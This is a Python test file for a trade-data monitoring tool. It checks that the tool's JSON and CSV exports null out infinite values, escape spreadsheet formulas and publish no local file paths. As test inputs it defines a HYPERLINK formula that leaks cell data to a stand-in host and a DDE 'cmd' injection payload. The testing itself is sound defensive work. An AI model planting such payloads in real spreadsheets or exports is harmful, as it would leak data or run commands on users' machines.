"""Every writer of output uses ``safety.py`` (issue #13, items 5 and 6): ``usmca query --format json|csv``,
``usmca goals progress --format json``, ``data/tdr.csv`` and ``tdr.json``, ``goals-progress.json`` and
``.csv``. Non-finite numbers are null, cells that a spreadsheet would run are prefixed, and no local path
is published. The values are made non-finite or hostile on purpose (the door refuses them in data; a
formula over zero exports still divides by zero)."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from typer.testing import CliRunner

from usmca_monitor import api
from usmca_monitor.catalog import source_specs
from usmca_monitor.cli import app
from usmca_monitor.model.specs import Origin

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def strict(text: str) -> Any:
    return json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} is not JSON"))


def rows(indicator: str, **kwargs: object) -> list[api.QueryRow]:
    return [api.QueryRow("tdr", "USA", "MEX", None, "2024", "A", math.inf, "ratio", FORMULA, "v1", "computed"),
            api.QueryRow("tdr", "USA", "CAN", None, "2024", "A", math.nan, "ratio", "+cmd|' /C calc'!A0", "v1",
                         "computed"),
            api.QueryRow("tdr", "USA", "CHN", None, "2024", "A", -0.25, "ratio", "U.S. Census Bureau", "v1",
                         "computed")]


def test_query_json_is_strict_and_csv_cells_cannot_run(monkeypatch) -> None:
    monkeypatch.setattr(api, "query", rows)
    runner = CliRunner()
    as_json = strict(runner.invoke(app, ["query", "tdr", "--format", "json"]).stdout)
    assert [r["value"] for r in as_json] == [None, None, -0.25]
    table = list(csv.DictReader(io.StringIO(runner.invoke(app, ["query", "tdr", "--format", "csv"]).stdout)))
    assert [r["source"] for r in table] == ["'" + FORMULA, "'+cmd|' /C calc'!A0", "U.S. Census Bureau"]
    assert [r["value"] for r in table] == ["", "", "-0.25"]  # a negative number stays a number


def test_goals_json_is_strict(monkeypatch) -> None:
    goal = SimpleNamespace(as_dict=lambda: {"goal": 1, "score": math.nan, "projected": math.inf})
    monkeypatch.setattr(api, "goals_progress", lambda **kwargs: [goal])
    result = CliRunner().invoke(app, ["goals", "progress", "--format", "json"])
    assert strict(result.stdout) == [{"goal": 1, "score": None, "projected": None}]


def test_tdr_downloads_escape_cells_and_publish_no_local_path(tmp_path: Path) -> None:
    from usmca_monitor.publish.downloads import write_tdr_downloads
    from usmca_monitor.publish.trade_data import TradeFacts

    local = Origin(producer="U.S. Census Bureau", title="imported file country.xlsx",
                   url="file:///home/ana/Downloads/country.xlsx", licence="Public domain", citation="c",
                   accessed="2026-01-01T00:00:00Z", path="/home/ana/Downloads/country.xlsx")
    facts = TradeFacts(values={(FORMULA, "2024"): {"exports": 0.0, "imports": 10.0, "tdr": math.inf},
                               ("MEX", "2024"): {"exports": 5.0, "imports": 6.0, "tdr": 0.2}},
                       freq_of={"2024": "A"}, vintage="census_trade@import-1", source=source_specs()["census_trade"],
                       origins=[local], last_month="2024-12", badge="official")
    csv_path, json_path = write_tdr_downloads(tmp_path, facts)
    text = json_path.read_text(encoding="utf-8")
    document = strict(text)
    assert "/home/ana" not in text and "file://" not in text
    assert document["origins"][0]["path"] == "country.xlsx" and document["origins"][0]["url"] == ""
    assert {r["partner"]: r["tdr"] for r in document["records"]} == {FORMULA: None, "MEX": 0.2}
    cells = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
    assert {r["partner"] for r in cells} == {"'" + FORMULA, "MEX"}
    assert all(not v.startswith(("=", "+", "@")) for r in cells for v in r.values())


def test_goals_downloads_are_strict_and_safe(tmp_path: Path) -> None:
    from usmca_monitor.publish.sections.goals import write_downloads

    target = SimpleNamespace(
        goal=1, spec=SimpleNamespace(id="t1", indicator=FORMULA, method="cagr_ratio", direction="increase",
                                     target_value=math.inf, target_year=2050),
        series=[], rolled=SimpleNamespace(status="not_available", score=math.nan), reason="-no data", data=None,
        as_dict=lambda: {"score": math.nan})
    result = SimpleNamespace(as_dict=lambda: {"goal": 1, "score": math.nan, "targets": [{"score": math.inf}]},
                             targets=[target])
    json_path, csv_path = write_downloads(tmp_path, [result], [])  # type: ignore[list-item]
    assert strict(json_path.read_text(encoding="utf-8"))["goals"] == [{"goal": 1, "score": None,
                                                                        "targets": [{"score": None}]}]
    [record] = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
    assert record["indicator"] == "'" + FORMULA and record["target_value"] == "" and record["reason"] == "'-no data"
